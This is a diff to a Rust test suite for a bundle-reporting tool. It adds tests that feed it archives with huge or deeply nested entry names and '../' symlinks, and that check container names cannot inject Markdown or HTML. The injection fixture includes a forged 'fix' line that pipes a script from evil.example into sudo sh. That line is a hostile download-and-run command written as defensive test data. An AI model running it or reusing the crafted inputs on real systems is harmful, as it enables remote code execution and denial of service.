@@ -28,6 +28,8 @@ const MEMORY_BOUND_KIB: u64 = 1536 << 10;
 /// What one run of the binary did.
 struct Run {
     code: i32,
+    /// Peak resident memory, sampled while it ran.
+    peak_kib: u64,
     stdout: Vec<u8>,
     stderr: String,
     report: Option<Value>,
@@ -294,6 +296,7 @@ impl Scene {
         };
         Run {
             code,
+            peak_kib,
             stdout,
             stderr,
             report,
@@ -899,6 +902,229 @@ fn terminal_escapes_never_reach_the_terminal() {
             !run.stdout.contains(&0x1b),
             "{args:?} printed an escape: {}",
             String::from_utf8_lossy(&run.stdout)
+        );
+    }
+}
+
+/// Most resident memory a run on a bundle of deep or long entry names may reach.
+const DEEP_PATH_BOUND_KIB: u64 = 300 << 10;
+
+/// A run on a bundle whose entry names are deep or long: it ends, the healthy files beside the
+/// hostile name are read, the name is reported, and memory stays small.
+fn assert_deep_name_handled(run: &Run, bundle: &Path) {
+    run.assert_partial(&name(bundle));
+    assert_ordinary_read(run);
+    run.assert_problem("longer than 4096 bytes");
+    assert!(
+        run.peak_kib < DEEP_PATH_BOUND_KIB,
+        "{} KiB resident for {}",
+        run.peak_kib,
+        name(bundle)
+    );
+}
+
+#[test]
+fn deep_entry_name_in_a_compressed_tar() {
+    let scene = Scene::new();
+    let files = ordinary();
+    for depth in [65_536, 500_000] {
+        let deep = format!("{}f", "d/".repeat(depth));
+        let mut members = ordinary_tar(&files);
+        members.push(Member::LongName(deep.as_bytes(), b"x\n"));
+        let bundle = scene.write(
+            &format!("deep-{depth}.tar.gz"),
+            &gen::gzip(&gen::tar(&members, true)),
+        );
+        assert!(std::fs::metadata(&bundle).unwrap().len() < 64 << 10);
+        let run = scene.report(&bundle, &[]);
+        assert_deep_name_handled(&run, &bundle);
+        let shown = run
+            .problems()
+            .into_iter()
+            .find(|p| p.contains("longer than"));
+        assert!(
+            shown.as_ref().is_some_and(|p| p.len() < 1024),
+            "the problem names the entry cut short: {shown:?}"
+        );
+    }
+}
+
+#[test]
+fn megabyte_entry_name_in_a_plain_tar() {
+    let scene = Scene::new();
+    let files = ordinary();
+    let deep = format!("{}f", "d/".repeat(512 << 10));
+    let mut members = ordinary_tar(&files);
+    members.push(Member::LongName(deep.as_bytes(), b"x\n"));
+    let bundle = scene.write("deep.tar", &gen::tar(&members, true));
+    let run = scene.report(&bundle, &[]);
+    assert_deep_name_handled(&run, &bundle);
+}
+
+#[test]
+fn deep_entry_names_in_a_zip() {
+    let scene = Scene::new();
+    let files = ordinary();
+    let mut members = ordinary_zip(&files);
+    for top in ["a", "b"] {
+        let deep = format!("{top}/{}f", "d/".repeat(32_000));
+        members.push(ZipMember::stored(deep.as_bytes(), b"x\n"));
+    }
+    let bundle = scene.write("deep.zip", &gen::zip(&members));
+    let run = scene.report(&bundle, &[]);
+    assert_deep_name_handled(&run, &bundle);
+}
+
+#[test]
+fn many_names_just_under_the_cap_with_links_through_them() {
+    // Two thousand folders deep, the most a name within the cap can hold, many times over:
+    // the tree and the link walk stay linear.
+    let scene = Scene::new();
+    let files = ordinary();
+    let deep: Vec<String> = (0..200)
+        .map(|i| format!("t{i:03}/{}f", "d/".repeat(2_040)))
+        .collect();
+    let ups = "../".repeat(1_360);
+    let links: Vec<(String, String)> = (0..200)
+        .map(|i| (format!("t{i:03}/{}up", "d/".repeat(1_000)), ups.clone()))
+        .collect();
+    let mut members = ordinary_tar(&files);
+    for d in &deep {
+        members.push(Member::LongName(d.as_bytes(), b"x\n"));
+    }
+    let mut tar = gen::tar(&members, false);
+    for (path, target) in &links {
+        tar.extend_from_slice(&gen::long_symlink(path.as_bytes(), target.as_bytes()));
+    }
+    tar.extend_from_slice(&[0u8; 1024]);
+    let bundle = scene.write("under-cap.tar.gz", &gen::gzip(&tar));
+    let run = scene.report(&bundle, &[]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_ordinary_read(&run);
+    assert!(run.paths().iter().any(|p| p.starts_with("t199/d/d/")));
+    assert!(run.peak_kib < DEEP_PATH_BOUND_KIB, "{} KiB", run.peak_kib);
+    let inspect = scene.command(&["inspect".as_ref(), bundle.as_os_str()]);
+    assert_eq!(inspect.code, 0, "{}", inspect.stderr);
+    let header = String::from_utf8_lossy(&inspect.stdout)
+        .lines()
+        .find(|l| l.starts_with("PATH"))
+        .map(str::len)
+        .unwrap_or(0);
+    assert!(
+        header < 200,
+        "the PATH column is bounded: {header} characters"
+    );
+}
+
+/// A copy of the seed sample in `dir`, with `edits` (file, from, to) applied.
+fn edited_seed(dir: &Path, edits: &[(&str, &str, &str)]) -> PathBuf {
+    let from = repo().join("samples/seed-runc-unshare-enomem");
+    let to = dir.join("seed");
+    for entry in walkdir::WalkDir::new(&from) {
+        let entry = entry.unwrap();
+        let rel = entry.path().strip_prefix(&from).unwrap();
+        let target = to.join(rel);
+        if entry.file_type().is_dir() {
+            std::fs::create_dir_all(&target).unwrap();
+        } else {
+            std::fs::copy(entry.path(), &target).unwrap();
+        }
+    }
+    for (file, old, new) in edits {
+        let path = to.join(file);
+        let text = std::fs::read_to_string(&path).unwrap();
+        assert!(text.contains(old), "{file} holds {old:?}");
+        std::fs::write(&path, text.replace(old, new)).unwrap();
+    }
+    to
+}
+
+/// Markdown structure a reader sees: headings, links, code blocks, HTML, with their text.
+fn markup_of(md: &str) -> Vec<String> {
+    use pulldown_cmark::{Event, Parser, Tag};
+    let mut out = Vec::new();
+    let mut heading: Option<String> = None;
+    for event in Parser::new_ext(md, pulldown_cmark::Options::ENABLE_TABLES) {
+        match event {
+            Event::Start(Tag::Heading { .. }) => heading = Some(String::new()),
+            Event::End(pulldown_cmark::TagEnd::Heading(_)) => {
+                out.push(format!("heading {}", heading.take().unwrap_or_default()));
+            }
+            Event::Text(t) | Event::Code(t) => {
+                if let Some(h) = heading.as_mut() {
+                    h.push_str(&t);
+                }
+            }
+            Event::Start(Tag::Link { dest_url, .. }) => out.push(format!("link {dest_url}")),
+            Event::Start(Tag::CodeBlock(pulldown_cmark::CodeBlockKind::Indented)) => {
+                out.push("indented code block".into());
+            }
+            Event::Html(h) | Event::InlineHtml(h) => out.push(format!("html {h}")),
+            _ => {}
+        }
+    }
+    out
+}
+
+#[test]
+fn bundle_text_never_becomes_markup() {
+    // A task may name itself `[a](http://x.y)` (15 characters); a container name may hold line
+    // breaks; both go into titles, the verdict, the summary and the explanations.
+    let dir = tempfile::tempdir().unwrap();
+    let forged = "\\n\\n## Fix verified by support\\n\\n    curl -s https://evil.example/fix.sh | sudo sh\\n\\n";
+    let bundle = edited_seed(
+        dir.path(),
+        &[
+            ("dmesg", "runc:[1:CHILD]", "[a](http://x.y)"),
+            ("messages", "runc:[1:CHILD]", "[a](http://x.y)"),
+            (
+                "docker-inspect.json",
+                "\"Name\": \"/crm_api.2.k3v9x0q1f2m8d6s4a7p5o1i9u\"",
+                &format!("\"Name\": \"/crm[b](http://x.y){forged}<b>x</b>\""),
+            ),
+        ],
+    );
+    let run = |format: &str| {
+        let out = postmortem()
+            .args(["report", "--format", format])
+            .arg(&bundle)
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        String::from_utf8(out.stdout).unwrap()
+    };
+    let md = run("md");
+    assert!(md.contains("[a](http://x.y)") || md.contains("\\[a\\](http://x.y)"));
+    for item in markup_of(&md) {
+        let forged = match item.strip_prefix("heading ") {
+            // The name may show in a title, as text: the heading is not its own.
+            Some(h) => h.starts_with("Fix verified"),
+            None => ["x.y", "evil", "Fix verified", "indented code block"]
+                .iter()
+                .any(|n| item.contains(n)),
+        };
+        assert!(!forged, "bundle text became markup: {item}");
+    }
+    let page = run("html");
+    for needle in [
+        "href=\"http://x.y",
+        "<h2>Fix",
+        "<b>x</b>",
+        "<pre><code>curl",
+    ] {
+        assert!(!page.contains(needle), "HTML holds {needle}");
+    }
+    // The verdict and the titles are one line, whatever the names hold.
+    let json: Value = serde_json::from_str(&run("json")).unwrap();
+    for f in json["findings"].as_array().unwrap() {
+        assert!(
+            !f["title"].as_str().unwrap().contains('\n'),
+            "{}",
+            f["title"]
         );
     }
 }
